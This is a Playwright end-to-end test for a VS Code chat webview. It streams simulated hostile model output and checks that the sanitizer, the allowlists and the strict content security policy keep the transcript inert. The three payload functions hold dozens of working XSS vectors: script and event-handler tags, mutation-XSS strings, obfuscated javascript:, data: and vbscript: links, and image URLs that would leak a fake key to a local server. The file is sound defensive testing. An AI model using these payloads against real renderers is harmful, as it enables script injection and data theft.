/**
 * Hostile model output in a real VS Code: the model (here the local test server) streams script
 * tags, event handlers, `javascript:`/`data:`/`vbscript:` links in every disguise, frames,
 * styles, forms, meta refreshes, mutation-XSS vectors and remote images meant to leak data.
 * Every payload that could run sets `__pwned`; every payload that could fetch something points
 * at a counting HTTP server of our own on 127.0.0.1. Inside the webview frame we then check that
 * the transcript holds only inert, allowlisted markup, during the stream (a MutationObserver sees
 * every intermediate render of the open tail) and after it, and again after the view is rebuilt
 * from the host's snapshot; that nothing ran and nothing was fetched; that a `javascript:`
 * looking link does not navigate; and that the page's CSP is the strict one.
 */
import assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Frame } from 'playwright-core';
import { leftoverProcesses } from './harness/codeServer';
import type { Fixture } from './fixture';
import { askAndWait, lastAnswer, openChat, startFixture, stepsFor, waitFor } from './fixture';

let fx: Fixture;
let chat: Frame;
let leak: http.Server;
let leakUrl = '';
const leakHits: string[] = [];

/** A description of one element, taken inside the webview and judged here. */
interface ElementInfo {
  readonly tag: string;
  readonly attrs: readonly (readonly [string, string])[];
  readonly className: string;
  /** Inside rendered markdown (`.markdown`, thinking included), i.e. made from model output. */
  readonly inMarkdown: boolean;
  /** Inside a code block toolbar, which we add after sanitizing (icons and buttons are ours). */
  readonly inToolbar: boolean;
  readonly connected: boolean;
}

/** What DOMPurify lets through (render/markdown.ts), plus the code block decoration we add. */
const MARKDOWN_TAGS: ReadonlySet<string> = new Set([
  'a', 'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 's', 'del', 'code', 'pre',
  'blockquote', 'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'sup', 'sub', 'kbd', 'div',
]);
const TOOLBAR_TAGS: ReadonlySet<string> = new Set(['div', 'span', 'button', 'svg', 'path']);
/** Never inside the transcript, whoever made them (our own UI has none of these either). */
const FORBIDDEN_TAGS: ReadonlySet<string> = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'style', 'link', 'meta', 'base', 'img', 'image', 'picture',
  'source', 'video', 'audio', 'form', 'input', 'textarea', 'select', 'math', 'noscript', 'template', 'marquee', 'applet',
]);
/** Attributes that load, run or restyle something; none may appear in the transcript. */
const FORBIDDEN_ATTRS: ReadonlySet<string> = new Set([
  'style', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'data', 'poster', 'background', 'ping', 'xlink:href',
  'http-equiv', 'content', 'codebase', 'dynsrc', 'lowsrc',
]);

function violations(elements: readonly ElementInfo[]): string[] {
  const found: string[] = [];
  for (const e of elements) {
    const where = `<${e.tag} class="${e.className}">`;
    if (FORBIDDEN_TAGS.has(e.tag)) found.push(`forbidden element ${where}`);
    if (e.tag === 'svg' && !(e.className.split(' ').includes('icon') && e.attrs.some(([n, v]) => n === 'aria-hidden' && v === 'true'))) {
      found.push(`svg that is not one of our icons: ${where}`);
    }
    // (An element already detached when seen cannot be placed; the rules above still apply to it.)
    if (e.inToolbar) {
      if (!TOOLBAR_TAGS.has(e.tag)) found.push(`unexpected element in a code toolbar: ${where}`);
    } else if (e.inMarkdown && !MARKDOWN_TAGS.has(e.tag)) {
      found.push(`element outside the markdown allowlist: ${where}`);
    }
    for (const [name, value] of e.attrs) {
      const lower = name.toLowerCase();
      if (lower.startsWith('on')) found.push(`event handler ${name}="${value}" on ${where}`);
      if (FORBIDDEN_ATTRS.has(lower)) found.push(`attribute ${name}="${value}" on ${where}`);
      // eslint-disable-next-line no-control-regex
      if (lower === 'href' && (!/^(?:https?|mailto):/i.test(value) || /[\u0000-\u0020\u007f-\u009f]/.test(value))) {
        found.push(`href with a scheme other than http/https/mailto: ${value} on ${where}`);
      }
    }
  }
  return found;
}

/** Every element in #transcript now. */
async function transcriptElements(frame: Frame): Promise<ElementInfo[]> {
  return frame.evaluate(() =>
    Array.from(document.querySelectorAll('#transcript *')).map((e) => ({
      tag: e.tagName.toLowerCase(),
      attrs: Array.from(e.attributes).map((a) => [a.name, a.value] as const),
      className: e.getAttribute('class') ?? '',
      inMarkdown: e.closest('.markdown') !== null,
      inToolbar: e.closest('.code-toolbar') !== null,
      connected: e.isConnected,
    })),
  );
}

/**
 * Records every element (and attribute change) that enters #transcript from now on, including
 * open-tail renders that a later frame replaces. Deduplicated in the page to stay small.
 */
async function watchTranscript(frame: Frame): Promise<void> {
  await frame.evaluate(() => {
    const store = window as unknown as { __hostileSeen?: Map<string, unknown> };
    if (store.__hostileSeen) return;
    const seen = new Map<string, unknown>();
    store.__hostileSeen = seen;
    const root = document.getElementById('transcript');
    if (!root) throw new Error('the webview has no #transcript');
    new MutationObserver((records) => {
      for (const record of records) {
        const added = record.type === 'attributes' ? [record.target] : Array.from(record.addedNodes);
        for (const node of added) {
          if (node.nodeType !== 1) continue;
          for (const e of [node as Element, ...Array.from((node as Element).querySelectorAll('*'))]) {
            const info = {
              tag: e.tagName.toLowerCase(),
              attrs: Array.from(e.attributes).map((a) => [a.name, a.value] as const),
              className: e.getAttribute('class') ?? '',
              inMarkdown: e.closest('.markdown') !== null,
              inToolbar: e.closest('.code-toolbar') !== null,
              connected: e.isConnected,
            };
            seen.set(JSON.stringify(info), info);
          }
        }
      }
    }).observe(root, { childList: true, subtree: true, attributes: true });
  });
}

async function seenSoFar(frame: Frame): Promise<ElementInfo[]> {
  return frame.evaluate(() => Array.from(((window as unknown as { __hostileSeen?: Map<string, ElementInfo> }).__hostileSeen ?? new Map<string, ElementInfo>()).values()));
}

/** `__pwned` in every frame of the page: the workbench, the webview host iframe and the webview. */
async function pwnedAnywhere(): Promise<string[]> {
  const found: string[] = [];
  for (const frame of fx.page.frames()) {
    const value = await frame.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned).catch(() => undefined);
    if (value !== undefined) found.push(`${frame.url()}: ${String(value)}`);
  }
  return found;
}

async function assertClean(label: string, frame: Frame): Promise<void> {
  const now = violations(await transcriptElements(frame));
  assert.deepEqual(now, [], `${label}: the transcript holds unsafe markup`);
  const during = violations(await seenSoFar(frame));
  assert.deepEqual(during, [], `${label}: unsafe markup was in the transcript at some point while streaming`);
  assert.deepEqual(await pwnedAnywhere(), [], `${label}: a payload ran`);
  assert.deepEqual(leakHits, [], `${label}: a payload fetched from the leak server`);
}

/** Raw HTML: markdown-it must escape it all (html: false) and DOMPurify would drop it anyway. */
function htmlPayloads(u: string): string[] {
  return [
    '<script>window.__pwned = "script"</script>',
    `<script src="${u}/script.js"></script>`,
    'Inline <script>top.__pwned = "inline-script"</script> in a sentence.',
    '<img src=x onerror="window.__pwned = \'img-onerror\'">',
    `<img src="${u}/img.png">`,
    `<img srcset="${u}/srcset.png 1x">`,
    '<svg onload="window.__pwned = \'svg-onload\'"><circle r="1"/></svg>',
    `<svg><image href="${u}/svg-image.png"/></svg>`,
    '<svg><script>window.__pwned = "svg-script"</script></svg>',
    `<iframe src="${u}/iframe.html"></iframe>`,
    '<iframe srcdoc="<script>parent.__pwned = \'srcdoc\'</script>"></iframe>',
    `<object data="${u}/object"></object>`,
    `<embed src="${u}/embed">`,
    `<style>@import url("${u}/import.css"); body { display: none }</style>`,
    `<link rel="stylesheet" href="${u}/link.css">`,
    `<link rel="prefetch" href="${u}/prefetch">`,
    `<meta http-equiv="refresh" content="0;url=${u}/meta-refresh">`,
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'meta\'">',
    `<base href="${u}/base/">`,
    `<form action="${u}/form" method="post"><input name="q" value="secret" autofocus onfocus="this.form.submit()"></form>`,
    '<form><button formaction="javascript:window.__pwned=\'formaction\'">go</button></form>',
    `<div style="background-image: url(${u}/css-background)">styled</div>`,
    '<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>',
    '<div onmouseover="window.__pwned=\'mouseover\'" onclick="window.__pwned=\'click\'">hover me</div>',
    '<details open ontoggle="window.__pwned=\'ontoggle\'"><summary>x</summary></details>',
    '<body onload="window.__pwned=\'body-onload\'">',
    `<video src="x" onerror="window.__pwned='video'" poster="${u}/poster.png"></video>`,
    '<audio src="x" onerror="window.__pwned=\'audio\'"></audio>',
    `<input type="image" src="${u}/input-image">`,
    '<marquee onstart="window.__pwned=\'marquee\'">m</marquee>',
    `<table background="${u}/table-bg"><tr><td>t</td></tr></table>`,
    '<a href="javascript:window.__pwned=\'raw-a\'">raw html link</a>',
    '<math><mi xlink:href="javascript:window.__pwned=\'math\'">m</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=\'mxss\'>',
    '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=\'svg-mxss\'>">',
    '<template><img src=x onerror="window.__pwned=\'template\'"></template>',
    '<scr<script>ipt>window.__pwned="nested"</scr</script>ipt>',
    '<button data-action="insert-code" class="code-action">fake toolbar button</button>',
    '<span class="code-toolbar turn-error">borrowed UI classes</span>',
  ];
}

/** Markdown links, images and autolinks with schemes that must never stay clickable. */
function linkPayloads(u: string): string[] {
  return [
    '[click-js-plain](javascript:window.__pwned=\'md-link\')',
    '[click-js-case](JaVaScRiPt:window.__pwned=\'md-case\')',
    '[click-js-space](  javascript:window.__pwned=\'md-space\')',
    '[click-js-angle](<javascript:window.__pwned=\'md-angle\'>)',
    '[click-js-entity](&#106;avascript:window.__pwned=\'md-entity\')',
    '[click-js-hex](&#x6A;avascript&#x3A;window.__pwned=\'md-hex\')',
    '[click-js-colon](javascript&colon;window.__pwned=\'md-colon\')',
    '[click-js-tab](java&#x09;script:window.__pwned=\'md-tab\')',
    '[click-js-newline](java&#x0A;script:window.__pwned=\'md-newline\')',
    '[click-js-percent](java%0Ascript:window.__pwned=\'md-percent\')',
    '[click-js-ref][evil]',
    '[click-vbscript](vbscript:msgbox(1))',
    '[click-vbscript-case](VBScript:msgbox(1))',
    '[click-data-html](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)',
    '[click-data-plain](data:text/html,<script>parent.__pwned=\'data2\'</script>)',
    '[click-file](file:///etc/passwd)',
    '[click-command](command:workbench.action.terminal.new)',
    '[click-vscode](vscode://claude-studio.claude-studio/run)',
    '<javascript:window.__pwned=\'autolink\'>',
    'A bare javascript:window.__pwned=\'bare\' and data:text/html,hi in text.',
    `[title-injection](https://ok.example "a\\" onmouseover=\\"window.__pwned='title'")`,
    '![img-js](javascript:window.__pwned=\'img-js\')',
    '![img-data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX3B3bmVkPSdzdmctZGF0YSciLz4=)',
    `![leak](${u}/md-image?secret=sk-ant-not-a-real-key)`,
    `![leak-ref][pixel]`,
    `Look: ![inline-leak](${u}/inline-image.png "t") inside a paragraph.`,
    `<${u}/autolink-http>`,
    '[ok-https](https://example.com/docs) and [ok-mailto](mailto:someone@example.com) stay clickable.',
    '',
    '[evil]: javascript:window.__pwned=\'ref\'',
    `[pixel]: ${u}/ref-image.png`,
  ];
}

/** Payloads inside markdown structures, where a renderer might treat text differently. */
function structurePayloads(u: string): string[] {
  return [
    '# Heading <img src=x onerror=window.__pwned=\'h1\'>',
    '```"><img src=x onerror=window.__pwned=\'fence-info\'>\ncode\n```',
    '``` onload=window.__pwned=\'info2\' style=x\ncode\n```',
    '```html\n<script>window.__pwned = "in-code"</script>\n<img src=x onerror=alert(1)>\n```',
    'Inline `<script>window.__pwned=1</script>` code.',
    '| payload | cell |\n|---|---|\n| <img src=x onerror=window.__pwned=\'cell\'> | [x](javascript:window.__pwned=\'cell-link\') |',
    '> <iframe srcdoc="<script>parent.__pwned=\'quote\'</script>">',
    '- <svg onload=window.__pwned=\'li\'>\n- [click-js-li](javascript:window.__pwned=\'li-link\')',
    '**<img src=x onerror=window.__pwned=\'strong\'>** and *<script>window.__pwned=1</script>*',
    '&lt;script&gt;window.__pwned=\'entities\'&lt;/script&gt; &#60;img src=x onerror=window.__pwned=\'num\'&#62;',
    `Text with a NUL \u0000 and an RTL override \u202e<img src=x onerror=window.__pwned='rtl'>.`,
    `~~~\n<style>@import url(${u}/fenced-import.css)</style>\n~~~`,
  ];
}

const step = stepsFor('hostile', () => fx.page, 120_000);

before(async () => {
  leak = http.createServer((req, res) => {
    leakHits.push(`${req.method ?? '?'} ${req.url ?? ''}`);
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => leak.listen(0, '127.0.0.1', resolve));
  leakUrl = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
  // The leak server must count, or "zero hits" would prove nothing.
  await fetch(`${leakUrl}/self-check`);
  assert.deepEqual(leakHits.splice(0), ['GET /self-check']);
  fx = await startFixture({ label: 'hostile', theme: 'dark' });
});

after(async () => {
  await fx?.close();
  await new Promise<void>((resolve) => (leak ? leak.close(() => resolve()) : resolve()));
});

describe('hostile model output in real VS Code', () => {
  step('opens the chat; the webview has the strict CSP and only our bundle script', async () => {
    chat = await openChat(fx.page);
    const page = await chat.evaluate(() => {
      const meta = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
      return {
        csp: meta?.getAttribute('content') ?? '',
        cspMetas: document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]').length,
        scripts: Array.from(document.scripts).map((s) => ({
          src: s.getAttribute('src') ?? '',
          nonce: s.nonce,
          inHead: s.parentElement === document.head,
          // VS Code's own preload (acquireVsCodeApi) is written into <head> before the CSP meta.
          beforeCsp: meta !== null && (s.compareDocumentPosition(meta) & Node.DOCUMENT_POSITION_FOLLOWING) !== 0,
        })),
        links: Array.from(document.querySelectorAll('link')).map((l) => `${l.getAttribute('rel') ?? ''} ${l.getAttribute('href') ?? ''}`),
      };
    });
    assert.equal(page.cspMetas, 1);
    assert.match(page.csp, /(?:^|;)\s*connect-src 'none'\s*(?:;|$)/);
    const nonce = /(?:^|;)\s*script-src 'nonce-([A-Za-z0-9+/=]+)'\s*(?:;|$)/.exec(page.csp)?.[1];
    assert.ok(nonce, `script-src is a nonce: ${page.csp}`);
    assert.doesNotMatch(page.csp, /'unsafe-inline'|'unsafe-eval'/);
    assert.match(page.csp, /(?:^|;)\s*default-src 'none'/);
    const bundles = page.scripts.filter((s) => s.src !== '');
    assert.equal(bundles.length, 1, JSON.stringify(page.scripts));
    assert.match(bundles[0]?.src ?? '', /\/media\/dist\/webview\.js$/);
    assert.equal(bundles[0]?.nonce, nonce, 'the bundle carries the CSP nonce');
    const inline = page.scripts.filter((s) => s.src === '');
    assert.ok(inline.every((s) => s.inHead && s.beforeCsp), `only VS Code's preload may be inline: ${JSON.stringify(inline)}`);
    assert.deepEqual(page.links.filter((l) => !/^stylesheet \S+\/media\/dist\/webview\.css$/.test(l)), []);
    await watchTranscript(chat);

    // The checks must catch what they look for: plant inert look-alikes (no src, nothing runs),
    // judge them, then remove them and forget what the observer saw. A snapshot that arrives
    // meanwhile redraws the transcript and takes them away: plant again until the audit reads a
    // transcript that still holds them.
    const plant = (): Promise<void> => chat.evaluate(() => {
      if (document.querySelector('#transcript > .planted')) return;
      const planted = document.createElement('div');
      planted.className = 'markdown planted';
      planted.innerHTML = '<img alt="x"><a href="javascript:void 0" onclick="void 0">x</a><svg></svg>';
      document.getElementById('transcript')?.append(planted);
    });
    await plant();
    await waitFor('the observer to see the planted markup', async () => ((await seenSoFar(chat)).length >= 4 ? true : undefined), 5000);
    const audited = await waitFor('an audit of the transcript with the planted markup in it', async () => {
      await plant();
      const elements = await transcriptElements(chat);
      return elements.some((e) => e.className === 'markdown planted') ? elements : undefined;
    }, 5000);
    const caught = violations(audited).join('\n');
    for (const expected of ['forbidden element <img', 'event handler onclick', 'href with a scheme other than', 'svg that is not one of our icons']) {
      assert.ok(caught.includes(expected), `the audit misses "${expected}":\n${caught}`);
    }
    assert.ok(violations(await seenSoFar(chat)).length >= 4, 'the observer misses planted markup');
    await chat.evaluate(() => {
      document.querySelector('#transcript > .planted')?.remove();
      (window as unknown as { __hostileSeen?: Map<string, unknown> }).__hostileSeen?.clear();
    });
  });

  step('streams raw HTML payloads: escaped, nothing runs, nothing loads', async () => {
    const payloads = htmlPayloads(leakUrl);
    // Small chunks, so tags are cut mid-name and mid-attribute across deltas.
    fx.server.script({ text: payloads.join('\n\n'), thinking: payloads.slice(0, 12).join('\n'), chunkSize: 5, chunkDelayMs: 2 });
    await askAndWait(chat, 'Show me some HTML');
    await assertClean('raw HTML', chat);
    // textContent: all of a long answer's text, on screen or not (innerText leaves out anything that
    // skips rendering off screen, as older turns do).
    const body = (await lastAnswer(chat).locator('.turn-body').textContent()) ?? '';
    assert.ok(body.includes('<script>window.__pwned = "script"</script>'), 'HTML is shown as text');
    // textContent: the thinking block is collapsed once the answer is done.
    assert.ok(((await lastAnswer(chat).locator('.thinking-body').textContent()) ?? '').includes('<svg onload='), 'thinking is rendered (and checked) too');
    assert.ok((await seenSoFar(chat)).length > 20, 'the observer watched the stream');
  });

  step('streams links, images and autolinks with dangerous schemes', async () => {
    const payloads = linkPayloads(leakUrl);
    fx.server.script({ text: payloads.join('\n\n'), chunkSize: 3, chunkDelayMs: 2 });
    await askAndWait(chat, 'Give me some links');
    await assertClean('links', chat);
    const answer = lastAnswer(chat);
    assert.equal(await answer.locator('a[href="https://example.com/docs"]').count(), 1, 'safe links stay clickable');
    assert.equal(await answer.locator('a[href="mailto:someone@example.com"]').count(), 1);
    assert.equal(await answer.locator('img').count(), 0);
    assert.ok((await answer.locator('a.md-image').count()) >= 3, 'images become links the user may choose to open');
  });

  step('streams payloads inside headings, fences, tables, quotes and lists', async () => {
    const payloads = structurePayloads(leakUrl);
    fx.server.script({ text: payloads.join('\n\n'), chunkSize: 4, chunkDelayMs: 2 });
    await askAndWait(chat, 'Now in markdown structures');
    await assertClean('structures', chat);
    assert.ok((await lastAnswer(chat).locator('pre code').count()) >= 3, 'fences render as code');
  });

  step('clicking javascript: looking links does not navigate the webview; web links go through the host', async () => {
    const before = chat.url();
    // VS Code writes the page into its frame with document.write, so location is not frame.url().
    const locationBefore = await chat.evaluate(() => location.href);
    // markdown-it refuses most such links outright (they stay text); the ones it accepts lost
    // their href in the sanitizer. Click both kinds.
    const dead = chat.locator('#transcript .turn-body a:not([href])');
    const deadCount = await dead.count();
    assert.ok(deadCount >= 3, `found ${deadCount} links without href`);
    for (let i = 0; i < deadCount; i++) await dead.nth(i).click();
    const lookalikes = chat.locator('#transcript .turn-body p', { hasText: /javascript:/i });
    const lookalikeCount = await lookalikes.count();
    assert.ok(lookalikeCount >= 5, `found ${lookalikeCount} javascript: look-alikes`);
    for (let i = 0; i < lookalikeCount; i++) await lookalikes.nth(i).getByText(/javascript:/i).first().click();
    // A web link is opened by the host (code-server: a new browser tab), never by the webview.
    const opened: string[] = [];
    fx.workbench.context.on('page', (page) => opened.push(page.url()));
    await chat.locator('#transcript .turn-body a[href="https://example.com/docs"]').click();
    // The host's openExternal either asks first (VS Code's link protection: "Do you want Code to
    // open the external website?") or opens a tab. Either one must happen: a click that nothing
    // answers is a broken link, not a safe one.
    const prompt = fx.page.locator('.monaco-dialog-box', { hasText: 'example.com' });
    const how = await waitFor('the host to open https://example.com/docs (a prompt or a new tab)', async () => {
      if (opened.some((url) => url.startsWith('https://example.com/docs'))) return 'tab';
      return (await prompt.isVisible()) ? 'prompt' : undefined;
    }, 15_000, 100);
    if (how === 'prompt') {
      await fx.page.keyboard.press('Escape');
      await prompt.waitFor({ state: 'hidden', timeout: 10_000 });
    }
    for (const url of opened) assert.match(url, /^(?:https:\/\/example\.com\/docs|about:blank)/, `opened ${url}`);
    assert.equal(chat.isDetached(), false, 'the webview frame is still there');
    assert.equal(chat.url(), before, 'the webview did not navigate');
    assert.equal(await chat.evaluate(() => location.href), locationBefore);
    assert.equal(await chat.locator('#composer-input').count(), 1, 'the chat is still alive');
    await assertClean('after clicks', chat);
  });

  step('the view rebuilt from the host snapshot is just as inert', async () => {
    const answers = await chat.locator('.turn[data-role="assistant"]').count();
    await fx.reopen();
    chat = await openChat(fx.page);
    await waitFor('the restored transcript', async () => ((await chat.locator('.turn[data-role="assistant"]').count()) === answers ? true : undefined), 30_000);
    assert.deepEqual(violations(await transcriptElements(chat)), []);
    assert.deepEqual(await pwnedAnywhere(), []);
    assert.deepEqual(leakHits, []);
  });
});

describe('after the run', () => {
  it('leaves no code-server or chromium process behind', { timeout: 60_000 }, async () => {
    await fx.close();
    assert.deepEqual(await leftoverProcesses(), []);
  });
});
